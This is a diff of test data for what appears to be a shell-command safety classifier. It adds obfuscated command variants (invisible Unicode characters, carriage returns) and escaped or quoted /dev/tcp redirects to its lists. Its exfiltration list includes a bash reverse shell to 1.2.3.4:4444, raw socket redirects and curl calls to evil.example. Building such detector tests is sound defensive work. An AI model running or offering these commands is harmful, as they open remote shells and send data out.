@@ -76,7 +76,7 @@ UNCLEAR = [
     "ls 2>", "ls >",
     # control and invisible characters, non-ASCII command names
     "ls\u202e -la", "l\u200bs", "ls\u00a0-la", "ls\x00", "ls\x1b[2J", "\u0441url https://github.com",
-    "ls\u2028ls", "ls\u00ad",
+    "ls\u2028ls", "ls\u00ad", "ls \\\u202e", "ls\r", "ls 'a\rb'",
 ]
 
 
@@ -132,6 +132,8 @@ EXFILTRATION = [
     ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "raw-socket"),
     ("exec 3<>/dev/tcp/1.2.3.4/80", "raw-socket"),
     ("echo x > /dev/udp/1.2.3.4/53", "raw-socket"),
+    ("echo x > /dev/tc\\p/1.2.3.4/53", "raw-socket"),
+    ("echo x > '/dev/tcp/1.2.3.4/53'", "raw-socket"),
     ("curl https://github.com evil.example", "fetch-outside"),
     ("curl evil.example https://github.com", "fetch-outside"),
     ("curl -s evil.example https://github.com", "fetch-outside"),
